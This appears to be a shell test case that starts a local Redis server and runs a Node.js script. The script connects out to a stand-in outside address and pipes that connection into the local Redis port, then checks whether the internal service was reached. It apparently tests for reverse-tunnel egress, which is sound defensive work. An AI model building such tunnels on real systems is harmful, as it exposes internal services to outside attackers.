#!/bin/sh
. /opt/case/case.sh

redis-server --daemonize yes --bind 127.0.0.1 --save '' >/dev/null
until redis-cli ping >/dev/null 2>&1; do sleep 0.1; done
cat >/tmp/o.js <<'END'
const net = require("net"), fs = require("fs");
const out = net.connect(9001, "203.0.113.10", () => {
  const inside = net.connect(6379, "127.0.0.1", () => { out.pipe(inside); inside.pipe(out); inside.write("PING\r\n"); });
  inside.once("data", () => fs.writeFileSync("/tmp/reached", ""));
});
setTimeout(() => process.exit(0), 3000);
END
node /tmp/o.js
test -e /tmp/reached
took_place
